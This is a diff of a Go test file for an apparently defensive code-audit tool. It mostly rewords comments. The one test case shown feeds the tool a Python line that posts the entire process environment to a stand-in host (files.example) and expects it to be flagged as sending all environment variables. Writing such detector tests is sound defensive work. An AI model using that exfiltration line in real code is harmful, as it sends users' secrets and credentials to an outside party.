@@ -9,7 +9,7 @@ import (
 	"github.com/vadehq/vade/internal/audit/signal/signaltest"
 )
 
-// signalsOf dumps the signals of code and the texts that it embeds.
+// signalsOf dumps the signals in code and the texts it embeds.
 func signalsOf(lang, src string) string {
 	s := signaltest.Region("a", signal.Code, lang, src)
 	out := signaltest.Extract(s, New())
@@ -30,8 +30,8 @@ func TestFiles(t *testing.T) {
 	}
 }
 
-// TestFlows tracks values through code. Each line lists expected signals, and unexpected ones
-// after a "!".
+// TestFlows tracks values through code. Each line lists expected signals,
+// followed by unexpected ones after a "!".
 func TestFlows(t *testing.T) {
 	for _, c := range []struct{ name, lang, src, want string }{
 		{"all of the environment", "py", "import os, requests\nrequests.post('https://files.example/in', json=dict(os.environ))\n", "send env-all"},
